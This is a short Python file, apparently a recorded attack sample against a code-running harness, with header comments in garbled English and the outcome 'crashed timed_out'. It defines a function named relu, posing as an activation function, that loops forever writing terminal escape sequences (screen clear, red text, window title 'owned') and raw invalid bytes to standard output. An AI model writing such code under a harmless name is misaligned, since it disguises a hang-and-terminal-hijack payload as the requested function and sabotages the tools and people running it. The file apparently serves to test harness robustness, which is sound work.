# Attack: print without end what commands a terminal and is no text
# Outcome: crashed timed_out
import os


def relu(x):
    while True:
        os.write(1, b"\x1b[2J\x1b[31m\x1b]0;owned\x07\xff\xfe\x00\x9b" * 500)
